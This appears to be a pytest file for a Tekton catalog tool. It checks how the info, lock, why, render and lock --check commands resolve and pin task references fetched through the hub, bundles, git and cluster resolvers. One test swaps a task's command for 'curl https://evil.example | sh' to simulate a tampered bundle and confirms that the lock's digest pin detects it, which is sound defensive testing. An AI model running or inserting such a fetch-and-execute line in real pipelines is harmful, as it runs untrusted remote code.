"""Dependencies through resolvers as a user meets them, every command in one story: a
Pipeline fetches its Tasks through the hub, bundles, git and cluster resolvers, into the
built-in catalog and a team's catalog published to a real registry (on loopback) and a
real git repository; `info`, `lock`, `why`, `render --bundles` and `lock --check` each
say and pin what Tekton will fetch."""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml

from .conftest import assert_one_line_error, run_cli
from .test_oci import manifest, registry  # noqa: F401  (registry: a fixture)
from .test_resolve_cli import FAST, _git
from .test_resources_resolvers import acme_tree

LINT = """\
apiVersion: tekton.dev/v1
kind: Task
metadata:
  name: lint
  labels:
    app.kubernetes.io/version: "0.1"
spec:
  description: Lint the sources.
  steps:
    - name: lint
      image: docker.io/library/alpine:3.19
      script: |
        #!/bin/sh
        true
"""


def _ref(resolver: str, **params: str) -> dict[str, Any]:
    return {"resolver": resolver, "params": [{"name": k, "value": v} for k, v in params.items()]}


def _deliver(host: str, git_url: str) -> dict[str, Any]:
    tasks = [
        ("clone", _ref("hub", catalog="builtin", type="artifact", kind="task", name="git-clone", version="0.2")),
        ("update", _ref("bundles", bundle=f"{host}/acme/yq-update:0.2", name="yq-update", kind="task")),
        ("lint", _ref("git", url=git_url, revision="v0.1", pathInRepo="task/lint/0.1/lint.yaml")),
        ("build", _ref("cluster", kind="task", name="kaniko", namespace="ci-tasks")),
        ("deploy", _ref("hub", catalog="builtin", name="kubectl-deploy", version=">= 0.1, < 0.3")),
        ("scan", _ref("hub", catalog="tekton-catalog-tasks", name="trivy-scanner", version="0.2")),
    ]
    return {"apiVersion": "tekton.dev/v1", "kind": "Pipeline",
            "metadata": {"name": "deliver", "labels": {"app.kubernetes.io/version": "1.0"}},
            "spec": {"tasks": [{"name": n, "taskRef": ref} for n, ref in tasks]}}


@pytest.fixture
def team(registry: dict[str, Any], tmp_path: Path) -> dict[str, Any]:  # noqa: F811
    """acme, with a lint Task and the Pipeline deliver, configured as a repo whose git URL
    is a real repository (annotated tag v0.1) and whose bundles are in the registry."""
    host = registry["host"]
    git_dir = tmp_path / "git"
    root = acme_tree(tmp_path)
    (root / "task/lint/0.1").mkdir(parents=True)
    (root / "task/lint/0.1/lint.yaml").write_text(LINT)
    (root / "pipeline/deliver/1.0").mkdir(parents=True)
    (root / "pipeline/deliver/1.0/deliver.yaml").write_text(
        yaml.safe_dump(_deliver(host, f"file://{git_dir}"), sort_keys=False))
    assert run_cli("index", str(root)).code == 0
    shutil.copytree(root, git_dir)
    _git(git_dir, "init", "-q", "-b", "main")
    _git(git_dir, "add", "-A")
    _git(git_dir, "commit", "-q", "-m", "catalog")
    _git(git_dir, "tag", "-a", "v0.1", "-m", "release 0.1")
    r = run_cli("repo", "add", "acme", str(root), "--git", f"file://{git_dir}", "--bundles", f"{host}/acme")
    assert r.code == 0, r.err
    r = run_cli("publish", "--oci", f"{host}/acme", "yq-update", "--catalog", "acme")
    assert r.code == 0, r.err
    return {"host": host, "root": root, "git": git_dir, "commit": _git(git_dir, "rev-parse", "v0.1^{commit}"),
            "digest": manifest(host, "acme/yq-update", "0.2")[1]}


def test_every_command_follows_and_pins_references_into_known_catalogs(team: dict[str, Any],
                                                                      tmp_path: Path) -> None:
    host, git_dir, commit, digest = team["host"], team["git"], team["commit"], team["digest"]

    # info: each reference, via which resolver, into which catalog; the public hub's is external.
    r = run_cli("info", "deliver", "-o", "json")
    assert r.code == 0, r.err
    deps = {d["name"]: d for d in r.json()["dependencies"]}
    assert {n: (d["range"], d["via"]["resolver"], d.get("repo"), d["external"]) for n, d in deps.items()} == {
        "git-clone": ("=0.2.0", "hub", "builtin", None),
        "kaniko": ("*", "cluster", None, None),
        "kubectl-deploy": (">=0.1.0 <0.3.0", "hub", "builtin", None),
        "lint": ("=0.1.0", "git", "acme", None),
        "trivy-scanner": ("=0.2.0", "hub", None,
                          "hub catalog 'tekton-catalog-tasks' is no configured repo"),
        "yq-update": ("=0.2.0", "bundles", "acme", None),
    }

    # lock: the four known ones are locked entries; the bundle and the git tag are pinned.
    lock = tmp_path / "catalog.lock"
    r = run_cli("lock", "deliver", "-f", str(lock), env=FAST)
    assert r.code == 0, r.err
    data = yaml.safe_load(lock.read_text())
    assert {(e["name"], e["version"]) for e in data["resolved"]} == {
        ("git-clone", "0.2"), ("kaniko", "0.2"), ("kubectl-deploy", "0.2"), ("lint", "0.1"), ("yq-update", "0.2"),
        ("deliver", "1.0")}
    refs = {ref["name"]: ref for ref in data["resolved"][-1]["references"]}
    assert refs["yq-update"]["digest"] == digest and refs["yq-update"]["target"] == "yq-update"
    assert refs["lint"]["commit"] == commit and refs["lint"]["target"] == "lint"  # the tag, peeled
    assert "target" not in refs["trivy-scanner"] and "digest" not in refs["trivy-scanner"]
    assert "note: deliver 1.0: hub tekton-catalog-tasks/trivy-scanner 0.2 is unpinned: a hub reference" in r.err

    # why: through which resolver, and what it is pinned to; the external one too.
    expected = {
        "git-clone": "deliver 1.0 fetches it through hub builtin/git-clone 0.2, unpinned: a hub reference",
        "yq-update": f"deliver 1.0 fetches it through bundles {host}/acme/yq-update:0.2, pinned to {digest}",
        "lint": f"deliver 1.0 fetches it through git file://{git_dir}@v0.1:task/lint/0.1/lint.yaml, "
                f"pinned to {commit}",
        "kaniko": "deliver 1.0 fetches it through cluster ci-tasks/kaniko, unpinned: a cluster reference",
    }
    for name, line in expected.items():
        r = run_cli("why", name, "-f", str(lock))
        assert r.code == 0, r.err
        via = refs[name]["resolver"]
        assert r.out.startswith(f"{name} ") and "required by deliver 1.0" in r.out.splitlines()[0]
        assert r.out.splitlines()[0].endswith(f" via {via}, which you asked for (deliver)")
        assert line in r.out, (name, r.out)
    r = run_cli("why", "trivy-scanner", "-f", str(lock))
    assert r.code == 0, r.err
    assert r.out.strip().endswith("not resolved: hub catalog 'tekton-catalog-tasks' is no configured repo")

    # render --bundles: the bundle reference written with its digest, from the lock or the registry.
    for args in (["--locked", str(lock)], ["deliver"]):
        r = run_cli("render", *args, "--bundles", f"{host}/acme", "-o", "json", env=FAST)
        assert r.code == 0, r.err
        pipeline = next(o for o in r.json()["items"] if o["kind"] == "Pipeline")
        update = next(t for t in pipeline["spec"]["tasks"] if t["name"] == "update")
        assert update["taskRef"]["params"][0]["value"] == f"{host}/acme/yq-update:0.2@{digest}"
        assert not [o for o in r.json()["items"] if o["kind"] == "Task" and o["metadata"]["name"] == "yq-update"]

    # Someone pushes other content under the same tag: the lock's pin catches it.
    assert run_cli("lock", "--check", "-f", str(lock), env=FAST).code == 0
    other = tmp_path / "other"
    shutil.copytree(team["root"], other)
    task = other / "task/yq-update/0.2/yq-update.yaml"
    task.write_text(task.read_text().replace("yq --version", "curl https://evil.example | sh"))
    assert run_cli("index", str(other)).code == 0
    assert run_cli("publish", "--oci", f"{host}/acme", "yq-update", "--catalog", str(other)).code == 0
    moved = manifest(host, "acme/yq-update", "0.2")[1]
    assert moved != digest
    r = run_cli("lock", "--check", "-f", str(lock), env=FAST)
    assert_one_line_error(r, f"deliver 1.0: bundles {host}/acme/yq-update:0.2 now names {moved}, "
                             f"the lock has {digest}")
    r = run_cli("render", "--locked", str(lock), "--bundles", f"{host}/acme", "-o", "json", env=FAST)
    pipeline = next(o for o in r.json()["items"] if o["kind"] == "Pipeline")
    assert f"yq-update:0.2@{digest}" in yaml.safe_dump(pipeline)  # still what was locked


# -- git references into each public layout -----------------------------------------------------
@pytest.mark.parametrize(("layout", "revision", "path", "version"), [
    ("singular", "main", "task/greet/0.1/greet.yaml", "0.1"),
    ("plural", "main", "tasks/greet/v0.2.0/greet.yaml", "v0.2.0"),
    ("tep0115", "main", "task/greet/greet.yaml", "0.2.0"),  # no version named: the newest
    ("tep0115-git", "v0.1.0", "task/greet/greet.yaml", "0.1.0"),  # the release tag is the version
    ("tep0115-git", "0.2.0", "task/greet/greet.yaml", "0.2.0"),
])
def test_a_git_reference_into_each_layout(tmp_path: Path, layout: str, revision: str, path: str,
                                          version: str) -> None:
    from .test_layouts import LAYOUTS, released_checkout

    source = released_checkout(tmp_path / "greetings") if layout == "tep0115-git" else LAYOUTS / layout
    url = f"file://{source}" if layout == "tep0115-git" else "https://git.example.com/team/greetings.git"
    extra = [] if layout == "tep0115-git" else ["--git", url]  # a checkout's own folder is its URL
    assert run_cli("repo", "add", "greetings", str(source), *extra).code == 0
    root = acme_tree(tmp_path)
    (root / "pipeline/hello/0.1").mkdir(parents=True)
    (root / "pipeline/hello/0.1/hello.yaml").write_text(yaml.safe_dump({
        "apiVersion": "tekton.dev/v1", "kind": "Pipeline",
        "metadata": {"name": "hello", "labels": {"app.kubernetes.io/version": "0.1"}},
        "spec": {"tasks": [{"name": "greet", "taskRef": _ref("git", url=url, revision=revision,
                                                             pathInRepo=path)}]}}, sort_keys=False))
    assert run_cli("index", str(root)).code == 0
    assert run_cli("repo", "add", "acme", str(root)).code == 0

    (dep,) = run_cli("info", "hello", "-o", "json").json()["dependencies"]
    assert (dep["repo"], dep["external"]) == ("greetings", None)
    lock = tmp_path / "catalog.lock"
    r = run_cli("lock", "hello", "-f", str(lock), env={"CATALOG_OFFLINE": "1"} if "git" not in layout else FAST)
    assert r.code == 0, r.err
    data = yaml.safe_load(lock.read_text())
    got = {e["name"]: e["version"] for e in data["resolved"]}
    assert (got["greet"], got["hello"]) == (version, "0.1") and "say" in got  # greet's StepAction, any version
    (ref,) = data["resolved"][-1]["references"]
    assert ref["target"] == "greet"
    if layout == "tep0115-git":
        assert ref["commit"] == _git(source, "rev-parse", f"{revision}^{{commit}}")
